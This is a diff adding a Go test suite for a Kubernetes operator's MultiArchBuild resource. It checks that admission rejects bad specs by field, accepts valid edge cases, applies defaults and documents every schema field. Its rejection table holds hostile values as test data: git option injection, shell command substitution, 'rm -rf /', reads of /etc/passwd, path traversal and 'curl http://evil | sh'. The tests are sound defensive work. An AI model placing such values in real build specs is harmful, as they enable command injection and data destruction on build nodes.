@@ -1,0 +1,445 @@
+package v1alpha1_test
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	"k8s.io/apimachinery/pkg/api/resource"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/runtime"
+	"k8s.io/apimachinery/pkg/util/yaml"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	"github.com/multiarch-build/multiarch-build-operator/api/v1alpha1"
+	"github.com/multiarch-build/multiarch-build-operator/internal/testenv"
+)
+
+// valid is the smallest MultiArchBuild the API server accepts. Each admission
+// case starts from a fresh copy and breaks one thing.
+func valid() map[string]any {
+	return map[string]any{
+		"apiVersion": "build.multiarch.io/v1alpha1",
+		"kind":       "MultiArchBuild",
+		"metadata":   map[string]any{"generateName": "adm-", "namespace": "default"},
+		"spec": map[string]any{
+			"source": map[string]any{
+				"git": map[string]any{"url": "https://github.com/example/app.git"},
+			},
+			"output": map[string]any{"image": "quay.io/example/app"},
+		},
+	}
+}
+
+// set walks path (dot separated) in obj, creating maps, and sets the value.
+func set(obj map[string]any, path string, v any) {
+	parts := strings.Split(path, ".")
+	m := obj
+	for _, p := range parts[:len(parts)-1] {
+		next, ok := m[p].(map[string]any)
+		if !ok {
+			next = map[string]any{}
+			m[p] = next
+		}
+		m = next
+	}
+	m[parts[len(parts)-1]] = v
+}
+
+func del(obj map[string]any, path string) {
+	parts := strings.Split(path, ".")
+	m := obj
+	for _, p := range parts[:len(parts)-1] {
+		m = m[p].(map[string]any)
+	}
+	delete(m, parts[len(parts)-1])
+}
+
+type admissionCase struct {
+	name   string
+	mutate func(o map[string]any)
+	// field must appear in the error, naming what the user has to fix.
+	field string
+}
+
+func setTo(path string, v any) func(map[string]any) {
+	return func(o map[string]any) { set(o, path, v) }
+}
+
+var digest = "sha256:" + strings.Repeat("a", 64)
+
+var invalidCases = []admissionCase{
+	// source.git.url
+	{"url missing", func(o map[string]any) { del(o, "spec.source.git.url") }, "spec.source.git.url"},
+	{"url empty", setTo("spec.source.git.url", ""), "spec.source.git.url"},
+	{"url ftp scheme", setTo("spec.source.git.url", "ftp://example.com/app.git"), "spec.source.git.url"},
+	{"url file scheme reads the node", setTo("spec.source.git.url", "file:///etc/passwd"), "spec.source.git.url"},
+	{"url bare path", setTo("spec.source.git.url", "/srv/git/app.git"), "spec.source.git.url"},
+	{"url option injection", setTo("spec.source.git.url", "--upload-pack=touch /tmp/pwned"), "spec.source.git.url"},
+	{"url with space", setTo("spec.source.git.url", "https://example.com/my app.git"), "spec.source.git.url"},
+	{"url with command substitution", setTo("spec.source.git.url", "https://example.com/$(reboot).git"), "spec.source.git.url"},
+	{"url with semicolon", setTo("spec.source.git.url", "https://example.com/app.git;rm"), "spec.source.git.url"},
+	{"url with backtick", setTo("spec.source.git.url", "https://example.com/`id`.git"), "spec.source.git.url"},
+	{"url with newline", setTo("spec.source.git.url", "https://example.com/app.git\nrm -rf /"), "spec.source.git.url"},
+	// source.git.revision
+	{"revision option injection", setTo("spec.source.git.revision", "--upload-pack=evil"), "spec.source.git.revision"},
+	{"revision with dot-dot", setTo("spec.source.git.revision", "main..evil"), "spec.source.git.revision"},
+	{"revision with space", setTo("spec.source.git.revision", "main branch"), "spec.source.git.revision"},
+	{"revision with shell", setTo("spec.source.git.revision", "main;id"), "spec.source.git.revision"},
+	// source.contextDir
+	{"contextDir absolute", setTo("spec.source.contextDir", "/etc"), "spec.source.contextDir"},
+	{"contextDir parent", setTo("spec.source.contextDir", "../outside"), "spec.source.contextDir"},
+	{"contextDir parent in the middle", setTo("spec.source.contextDir", "src/../../outside"), "spec.source.contextDir"},
+	{"contextDir is dot-dot", setTo("spec.source.contextDir", ".."), "spec.source.contextDir"},
+	{"contextDir with shell", setTo("spec.source.contextDir", "src;rm -rf /"), "spec.source.contextDir"},
+	// strategy.containerfile
+	{"containerfile absolute", setTo("spec.strategy.containerfile", "/Containerfile"), "spec.strategy.containerfile"},
+	{"containerfile parent", setTo("spec.strategy.containerfile", "../Containerfile"), "spec.strategy.containerfile"},
+	{"containerfile trailing parent", setTo("spec.strategy.containerfile", "docker/.."), "spec.strategy.containerfile"},
+	{"containerfile command substitution", setTo("spec.strategy.containerfile", "docker/$(id)"), "spec.strategy.containerfile"},
+	// platforms
+	{"platform unknown", setTo("spec.platforms", []any{"linux/mips"}), "spec.platforms"},
+	{"platform without os", setTo("spec.platforms", []any{"arm64"}), "spec.platforms"},
+	{"platform windows", setTo("spec.platforms", []any{"windows/amd64"}), "spec.platforms"},
+	{"platform duplicate", setTo("spec.platforms", []any{"linux/amd64", "linux/arm64", "linux/amd64"}), "spec.platforms"},
+	{"platforms empty", setTo("spec.platforms", []any{}), "spec.platforms"},
+	{"platforms too many", setTo("spec.platforms", []any{"linux/amd64", "linux/arm64", "linux/ppc64le", "linux/s390x", "linux/amd64"}), "spec.platforms"},
+	// output.image
+	{"image missing", func(o map[string]any) { del(o, "spec.output.image") }, "spec.output.image"},
+	{"image with digest", setTo("spec.output.image", "quay.io/example/app@"+digest), "spec.output.image"},
+	{"image with tag and digest", setTo("spec.output.image", "quay.io/example/app:1.0@"+digest), "spec.output.image"},
+	{"image uppercase", setTo("spec.output.image", "quay.io/Example/App"), "spec.output.image"},
+	{"image without registry", setTo("spec.output.image", "app"), "spec.output.image"},
+	{"image bad tag", setTo("spec.output.image", "quay.io/example/app:bad tag"), "spec.output.image"},
+	{"image with scheme", setTo("spec.output.image", "docker://quay.io/example/app"), "spec.output.image"},
+	// strategy blocks
+	{"strategy type unknown", setTo("spec.strategy.type", "Gradle"), "spec.strategy.type"},
+	{"nodejs block with Containerfile", setTo("spec.strategy.nodejs", map[string]any{"installCommand": "npm ci"}), "spec.strategy.nodejs"},
+	{"nodejs block with Maven", func(o map[string]any) {
+		set(o, "spec.strategy.type", "Maven")
+		set(o, "spec.strategy.nodejs", map[string]any{})
+	}, "spec.strategy.nodejs"},
+	{"maven block with NodeJS", func(o map[string]any) {
+		set(o, "spec.strategy.type", "NodeJS")
+		set(o, "spec.strategy.maven", map[string]any{})
+	}, "spec.strategy.maven"},
+	{"maven block with Containerfile", setTo("spec.strategy.maven", map[string]any{"goals": []any{"package"}}), "spec.strategy.maven"},
+	// strategy contents
+	{"installCommand chained", func(o map[string]any) {
+		set(o, "spec.strategy.type", "NodeJS")
+		set(o, "spec.strategy.nodejs.installCommand", "npm ci && curl http://evil | sh")
+	}, "spec.strategy.nodejs.installCommand"},
+	{"installCommand substitution", func(o map[string]any) {
+		set(o, "spec.strategy.type", "NodeJS")
+		set(o, "spec.strategy.nodejs.installCommand", "npm install $(cat /etc/passwd)")
+	}, "spec.strategy.nodejs.installCommand"},
+	{"installCommand redirection", func(o map[string]any) {
+		set(o, "spec.strategy.type", "NodeJS")
+		set(o, "spec.strategy.nodejs.installCommand", "npm ci > /dev/null")
+	}, "spec.strategy.nodejs.installCommand"},
+	{"nodejs image invalid", func(o map[string]any) {
+		set(o, "spec.strategy.type", "NodeJS")
+		set(o, "spec.strategy.nodejs.image", "Not An Image")
+	}, "spec.strategy.nodejs.image"},
+	{"maven goal with shell", func(o map[string]any) {
+		set(o, "spec.strategy.type", "Maven")
+		set(o, "spec.strategy.maven.goals", []any{"package;rm -rf /"})
+	}, "spec.strategy.maven.goals"},
+	{"maven goals empty", func(o map[string]any) {
+		set(o, "spec.strategy.type", "Maven")
+		set(o, "spec.strategy.maven.goals", []any{})
+	}, "spec.strategy.maven.goals"},
+	{"build arg name invalid", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "1BAD", "value": "x"}}), "spec.strategy.buildArgs"},
+	{"build arg name with shell", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "A=$(id)", "value": "x"}}), "spec.strategy.buildArgs"},
+	{"build arg duplicate", setTo("spec.strategy.buildArgs", []any{
+		map[string]any{"name": "VERSION", "value": "1"}, map[string]any{"name": "VERSION", "value": "2"},
+	}), "spec.strategy.buildArgs"},
+	// numbers and durations
+	{"runHistoryLimit negative", setTo("spec.runHistoryLimit", int64(-1)), "spec.runHistoryLimit"},
+	{"runHistoryLimit too large", setTo("spec.runHistoryLimit", int64(21)), "spec.runHistoryLimit"},
+	{"timeout zero", setTo("spec.timeout", "0s"), "spec.timeout"},
+	{"timeout negative", setTo("spec.timeout", "-5m"), "spec.timeout"},
+	{"timeout not a duration", setTo("spec.timeout", "soon"), "spec.timeout"},
+	{"timeout with days", setTo("spec.timeout", "1d"), "spec.timeout"},
+	// workspace and capacity
+	{"storageClassName invalid", setTo("spec.workspace.storageClassName", "EFS_CSI"), "spec.workspace.storageClassName"},
+	{"workspace size zero", setTo("spec.workspace.size", "0"), "spec.workspace.size"},
+	{"workspace size negative", setTo("spec.workspace.size", "-1Gi"), "spec.workspace.size"},
+	{"capacity policy unknown", setTo("spec.capacity.policy", "Sometimes"), "spec.capacity.policy"},
+	{"instance type for unknown arch", setTo("spec.capacity.instanceTypes", map[string]any{"mips": "m6g.2xlarge"}), "spec.capacity.instanceTypes"},
+	{"instance type malformed", setTo("spec.capacity.instanceTypes", map[string]any{"arm64": "m6g 2xlarge"}), "spec.capacity.instanceTypes"},
+	// other fields
+	{"builderImage invalid", setTo("spec.builderImage", "buildah; rm -rf /"), "spec.builderImage"},
+	{"serviceAccountName invalid", setTo("spec.serviceAccountName", "Bad_Name"), "spec.serviceAccountName"},
+}
+
+var env *testenv.Env
+var k8s client.Client
+
+func TestMain(m *testing.M) {
+	var err error
+	env, err = testenv.StartE(testenv.Ours)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, "admission tests need a real API server:", err)
+		os.Exit(1)
+	}
+	s := runtime.NewScheme()
+	_ = v1alpha1.AddToScheme(s)
+	k8s, err = client.New(env.Config, client.Options{Scheme: s})
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(1)
+	}
+	code := m.Run()
+	_ = env.Stop()
+	os.Exit(code)
+}
+
+func TestAdmissionRejectsInvalidSpecsNamingTheField(t *testing.T) {
+	ctx := context.Background()
+	rejected := 0
+	for _, tc := range invalidCases {
+		t.Run(tc.name, func(t *testing.T) {
+			o := valid()
+			tc.mutate(o)
+			u := &unstructured.Unstructured{Object: o}
+			err := k8s.Create(ctx, u)
+			if err == nil {
+				t.Fatalf("accepted an invalid MultiArchBuild: %v", o["spec"])
+			}
+			if !apierrors.IsInvalid(err) {
+				t.Fatalf("want an Invalid error, got %v", err)
+			}
+			if !strings.Contains(err.Error(), tc.field) {
+				t.Fatalf("error does not name %s: %v", tc.field, err)
+			}
+			t.Logf("rejected: %v", err)
+			rejected++
+		})
+	}
+	if len(invalidCases) < 30 {
+		t.Errorf("only %d admission cases; the suite promises at least 30", len(invalidCases))
+	}
+	t.Logf("admission: %d of %d invalid or hostile MultiArchBuilds rejected with their field named", rejected, len(invalidCases))
+	fmt.Printf("SUMMARY: admission: %d of %d invalid or hostile MultiArchBuilds rejected with their field named\n", rejected, len(invalidCases))
+}
+
+// TestCustomMessagesNameFieldAndFix checks the messages we wrote ourselves, not
+// only the API server's field path.
+func TestCustomMessagesNameFieldAndFix(t *testing.T) {
+	ctx := context.Background()
+	for _, tc := range []struct {
+		path, value, want string
+	}{
+		{"spec.output.image", "quay.io/example/app@" + digest, "the pushed digest is reported in status.digest"},
+		{"spec.source.contextDir", "../x", "'..' is not allowed"},
+		{"spec.source.git.url", "ftp://example.com/x", "https://, http://, ssh:// or git://"},
+		{"spec.timeout", "0s", "positive duration"},
+	} {
+		o := valid()
+		set(o, tc.path, tc.value)
+		err := k8s.Create(ctx, &unstructured.Unstructured{Object: o})
+		if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), tc.path) {
+			t.Errorf("%s=%q: want an error naming the field and saying %q, got %v", tc.path, tc.value, tc.want, err)
+		}
+	}
+}
+
+func TestAdmissionAcceptsValidEdgeCases(t *testing.T) {
+	ctx := context.Background()
+	for _, tc := range []struct {
+		name   string
+		mutate func(map[string]any)
+	}{
+		{"scp-like url", setTo("spec.source.git.url", "git@github.com:example/app.git")},
+		{"ssh url with port", setTo("spec.source.git.url", "ssh://git@example.com:2222/app.git")},
+		{"git url", setTo("spec.source.git.url", "git://127.0.0.1/app.git")},
+		{"registry with port and tag", setTo("spec.output.image", "127.0.0.1:5000/e2e/app:v1.2.3")},
+		{"nested repository", setTo("spec.output.image", "quay.io/org/team/app_name-x:latest")},
+		{"commit sha revision", setTo("spec.source.git.revision", "3b11df8a0c3e0f1f5b1b2d5e1f0a9c8b7d6e5f4a")},
+		{"tag revision", setTo("spec.source.git.revision", "refs/tags/v1.0.0")},
+		{"dot dot inside a name is fine", setTo("spec.source.contextDir", "src/my..dir")},
+		{"four platforms", setTo("spec.platforms", []any{"linux/amd64", "linux/arm64", "linux/ppc64le", "linux/s390x"})},
+		{"timeout composite", setTo("spec.timeout", "1h30m")},
+		{"runHistoryLimit zero", setTo("spec.runHistoryLimit", int64(0))},
+		{"installCommand yarn", func(o map[string]any) {
+			set(o, "spec.strategy.type", "NodeJS")
+			set(o, "spec.strategy.nodejs.installCommand", "yarn install --frozen-lockfile")
+		}},
+		{"maven goals with properties", func(o map[string]any) {
+			set(o, "spec.strategy.type", "Maven")
+			set(o, "spec.strategy.maven.goals", []any{"package", "-DskipTests", "-Dquarkus.package.jar.type=uber-jar"})
+		}},
+		{"build arg with spaces in value", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "GREETING", "value": "hello world; $(not a shell)"}})},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			o := valid()
+			tc.mutate(o)
+			if err := k8s.Create(ctx, &unstructured.Unstructured{Object: o}); err != nil {
+				t.Fatalf("rejected a valid MultiArchBuild: %v", err)
+			}
+		})
+	}
+}
+
+func loadSamples(t *testing.T) []*v1alpha1.MultiArchBuild {
+	t.Helper()
+	files, err := filepath.Glob(filepath.Join(testenv.RepoRoot(), "config", "samples", "build_v1alpha1_multiarchbuild_*.yaml"))
+	if err != nil || len(files) < 4 {
+		t.Fatalf("want at least 4 samples, found %v (%v)", files, err)
+	}
+	var out []*v1alpha1.MultiArchBuild
+	for _, f := range files {
+		data, err := os.ReadFile(f)
+		if err != nil {
+			t.Fatal(err)
+		}
+		b := &v1alpha1.MultiArchBuild{}
+		if err := yaml.UnmarshalStrict(data, b); err != nil {
+			t.Fatalf("%s: %v", f, err)
+		}
+		out = append(out, b)
+	}
+	return out
+}
+
+func TestSamplesAreAccepted(t *testing.T) {
+	ctx := context.Background()
+	for _, b := range loadSamples(t) {
+		b.Namespace = "default"
+		b.Name = "sample-" + b.Name
+		if err := k8s.Create(ctx, b); err != nil {
+			t.Errorf("sample %s rejected: %v", b.Name, err)
+		}
+	}
+}
+
+func TestDefaultsAreVisibleWhenReadBack(t *testing.T) {
+	ctx := context.Background()
+	u := &unstructured.Unstructured{Object: valid()}
+	if err := k8s.Create(ctx, u); err != nil {
+		t.Fatal(err)
+	}
+	got := &v1alpha1.MultiArchBuild{}
+	if err := k8s.Get(ctx, client.ObjectKey{Namespace: "default", Name: u.GetName()}, got); err != nil {
+		t.Fatal(err)
+	}
+	s := got.Spec
+	checks := []struct {
+		field     string
+		got, want any
+	}{
+		{"source.git.revision", s.Source.Git.Revision, "main"},
+		{"source.contextDir", s.Source.ContextDir, "."},
+		{"strategy.type", s.Strategy.Type, v1alpha1.StrategyContainerfile},
+		{"strategy.containerfile", s.Strategy.Containerfile, "Containerfile"},
+		{"platforms", fmt.Sprint(s.Platforms), "[linux/amd64 linux/arm64]"},
+		{"workspace.storageClassName", s.Workspace.StorageClassName, "efs-csi"},
+		{"workspace.size", quantityString(s.Workspace.Size), "10Gi"},
+		{"capacity.policy", s.Capacity.Policy, v1alpha1.CapacityManaged},
+		{"timeout", durationString(s.Timeout), "1h0m0s"},
+		{"runHistoryLimit", int32Value(s.RunHistoryLimit), int32(3)},
+	}
+	for _, c := range checks {
+		if c.got != c.want {
+			t.Errorf("default of spec.%s: got %v, want %v", c.field, c.got, c.want)
+		}
+	}
+
+	// Strategy blocks get their own defaults when present.
+	o := valid()
+	set(o, "spec.strategy.type", "Maven")
+	set(o, "spec.strategy.maven", map[string]any{})
+	mu := &unstructured.Unstructured{Object: o}
+	if err := k8s.Create(ctx, mu); err != nil {
+		t.Fatal(err)
+	}
+	mb := &v1alpha1.MultiArchBuild{}
+	if err := k8s.Get(ctx, client.ObjectKey{Namespace: "default", Name: mu.GetName()}, mb); err != nil {
+		t.Fatal(err)
+	}
+	if m := mb.Spec.Strategy.Maven; m == nil || m.Image != "registry.access.redhat.com/ubi9/openjdk-21" || fmt.Sprint(m.Goals) != "[package -DskipTests]" {
+		t.Errorf("maven defaults not applied: %+v", mb.Spec.Strategy.Maven)
+	}
+}
+
+func quantityString(q *resource.Quantity) string {
+	if q == nil {
+		return "<nil>"
+	}
+	return q.String()
+}
+
+func durationString(d *metav1.Duration) string {
+	if d == nil {
+		return "<nil>"
+	}
+	return d.Duration.String()
+}
+
+func int32Value(p *int32) any {
+	if p == nil {
+		return nil
+	}
+	return *p
+}
+
+// TestEveryFieldIsExplained walks the CRD schema: kubectl explain shows each
+// property's description, so none may be empty.
+func TestEveryFieldIsExplained(t *testing.T) {
+	crds, err := testenv.LoadCRDs(testenv.Ours)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var crd *apiextensionsv1.CustomResourceDefinition
+	for _, c := range crds {
+		if c.Name == "multiarchbuilds.build.multiarch.io" {
+			crd = c
+		}
+	}
+	if crd == nil {
+		t.Fatal("MultiArchBuild CRD not found in config/crd/bases")
+	}
+	if crd.Spec.Names.ShortNames[0] != "mab" {
+		t.Errorf("short name: %v", crd.Spec.Names.ShortNames)
+	}
+	v := crd.Spec.Versions[0]
+	if v.Subresources == nil || v.Subresources.Status == nil {
+		t.Error("status subresource missing")
+	}
+	var cols []string
+	for _, c := range v.AdditionalPrinterColumns {
+		cols = append(cols, c.Name)
+	}
+	if got := strings.Join(cols, ","); got != "Phase,Image,Digest,Platforms,Age" {
+		t.Errorf("printer columns: %s", got)
+	}
+	count := 0
+	var walk func(path string, s apiextensionsv1.JSONSchemaProps)
+	walk = func(path string, s apiextensionsv1.JSONSchemaProps) {
+		for name, p := range s.Properties {
+			fp := path + "." + name
+			if strings.HasPrefix(fp, ".metadata") || strings.HasPrefix(fp, ".apiVersion") || strings.HasPrefix(fp, ".kind") {
+				continue
+			}
+			count++
+			if strings.TrimSpace(p.Description) == "" {
+				t.Errorf("%s has no description for kubectl explain", fp)
+			}
+			walk(fp, p)
+			if p.Items != nil && p.Items.Schema != nil {
+				walk(fp+"[]", *p.Items.Schema)
+			}
+		}
+	}
+	walk("", *v.Schema.OpenAPIV3Schema)
+	if count < 40 {
+		t.Errorf("walked only %d fields; the schema looks truncated", count)
+	}
+}
